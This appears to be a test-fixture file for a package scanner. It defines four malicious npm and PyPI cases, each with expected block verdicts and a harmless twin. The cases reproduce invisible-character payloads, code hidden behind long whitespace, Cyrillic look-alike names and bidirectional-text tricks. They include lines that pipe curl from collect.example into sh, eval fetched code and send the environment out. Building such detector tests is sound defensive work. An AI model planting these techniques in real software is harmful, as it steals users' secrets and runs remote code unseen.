import { npm, type PackageCase, pypi, tarball, wheel, YOUNG } from '../../support/package-case.ts'

/** A text as variation selectors, which no editor shows (GlassWorm, October 2025). */
function invisible(text: string): string {
  return [...Buffer.from(text)]
    .map((byte) => String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16))
    .join('')
}

const DECODER = `const decode = (text) => Buffer.from([...text].map((one) => one.codePointAt(0)).map((code) => code >= 0xe0100 ? code - 0xe0100 + 16 : code - 0xfe00)).toString('utf8');`
const STAGE = "require('child_process').execSync('curl -s https://collect.example/x | sh')"

/** Code that no reader sees, or reads as another. */
export const unicode: readonly PackageCase[] = [
  {
    id: 'invisible code',
    incident: 'GlassWorm, October 2025: the program stands in characters that are not shown, and is evaluated',
    project: npm(
      'vs-theme-tools',
      tarball(
        'vs-theme-tools',
        '1.8.3',
        { 'index.js': `${DECODER}\neval(decode('${invisible(STAGE)}'));\nmodule.exports = {};\n` },
        { main: 'index.js' },
      ),
      { since: YOUNG },
    ),
    expect: { verdict: 'block', story: 'runs-hidden-code', text: /^On import, /, steps: ['index.js:2'] },
    twin: npm(
      'vs-theme-tools',
      tarball(
        'vs-theme-tools',
        '1.8.3',
        {
          'index.js':
            "exports.strip = (text) => text.replace(/[\\u200b-\\u200f\\ufe00-\\ufe0f]/g, '');\nexports.emoji = { heart: '❤️', star: '⭐️', family: '👨‍👩‍👧' };\n",
        },
        { main: 'index.js' },
      ),
    ),
  },
  {
    id: 'code out of sight',
    incident: 'packages of 2023 to 2026: the call stands behind hundreds of blanks in a line that looks empty',
    project: npm(
      'line-tools-mini',
      tarball(
        'line-tools-mini',
        '1.0.1',
        {
          'index.js': `module.exports = (text) => text.split('\\n');${' '.repeat(600)};const h = require('https'); h.get('https://collect.example/l', (a) => { let t = ''; a.on('data', (d) => { t += d; }); a.on('end', () => eval(t)); });\n`,
        },
        { main: 'index.js' },
      ),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'runs-hidden-code',
      text: /^On import, runs code that is made unreadable \(far-right\)/,
      steps: ['index.js:1'],
    },
    twin: npm(
      'line-tools-mini',
      tarball(
        'line-tools-mini',
        '1.0.1',
        {
          'index.js': `module.exports = (text) => text.split('\\n');\nconst table = [\n  'a',${' '.repeat(80)}'b',\n];\nmodule.exports.table = table;\n`,
        },
        { main: 'index.js' },
      ),
    ),
  },
  {
    id: 'names of two alphabets',
    incident: 'Trojan Source and look-alikes, 2021: a name in Cyrillic letters hides which function is called',
    project: pypi(
      'text-normaliser',
      wheel('text-normaliser', '0.2.0', {
        'text_normaliser/__init__.py': `import os, urllib.request
def сheck(value):
    urllib.request.urlopen("https://collect.example/t", data=repr(dict(value)).encode())
def check(value):
    return bool(value)
if сheck(os.environ) or check(os.environ):
    READY = True
`,
      }),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'steals-secrets',
      text: /^On import, reads the whole environment and sends it to collect\.example/,
      steps: ['text_normaliser/__init__.py:3'],
    },
    twin: pypi(
      'text-normaliser',
      wheel('text-normaliser', '0.2.0', {
        'text_normaliser/__init__.py':
          'TABLE = {"а": "a", "е": "e", "о": "o", "р": "p", "с": "c"}\ndef fold(text):\n    return "".join(TABLE.get(one, one) for one in text)\n',
      }),
    ),
  },
  {
    id: 'text that turns',
    incident: 'Trojan Source, 2021: characters that turn the direction of text make a comment of code',
    project: npm(
      'access-check-lite',
      tarball(
        'access-check-lite',
        '1.0.0',
        {
          'index.js': `const level = 'user';\nif (level !== 'user\u202e \u2066// only for admins\u2069 \u2066') { eval(require('fs').readFileSync(__dirname + '/data.txt', 'utf8')); }\nmodule.exports = level;\n`,
          'data.txt': 'console.log(1)\n',
        },
        { main: 'index.js' },
      ),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'hold',
      story: 'runs-hidden-code',
      text: /^On import, runs code that is made unreadable \(bidirectional-text\)/,
      steps: ['index.js:2'],
    },
    twin: npm(
      'access-check-lite',
      tarball(
        'access-check-lite',
        '1.0.0',
        {
          'index.js':
            "module.exports = { mark: '\\u200f', wrap: (text) => '\\u2067' + text + '\\u2069', hebrew: 'שלום' };\n",
        },
        { main: 'index.js' },
      ),
    ),
  },
]
